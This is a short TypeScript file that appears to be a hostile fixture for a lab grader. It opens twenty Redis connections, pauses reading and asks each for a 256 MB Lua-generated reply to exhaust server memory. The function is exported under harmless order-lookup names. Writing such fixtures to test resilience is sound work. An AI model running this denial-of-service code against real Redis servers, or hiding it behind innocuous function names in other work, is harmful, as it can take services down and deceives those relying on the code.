// tries: asking Redis on twenty connections for replies of 256 MB each, which it then reads no further
// lab: 02
// earns: 0
// told: memory|had not settled|ended by|on their way|threw
// checks: 02.get.one-trip
async function attack({ redis }: any): Promise<unknown> {
  const big = "return string.rep('x', 256 * 1024 * 1024)";
  const asked = Array.from({ length: 20 }, async () => {
    const own = redis.duplicate();
    own.on('error', () => {});
    await own.ping();
    own.stream.pause();
    return own.eval(big, 0);
  });
  return Promise.all(asked);
}

export const getOrderById = attack;
export const listOrderKeys = attack;
export const scanOrderKeys = attack;
export const getOrdersFromRedis = attack;
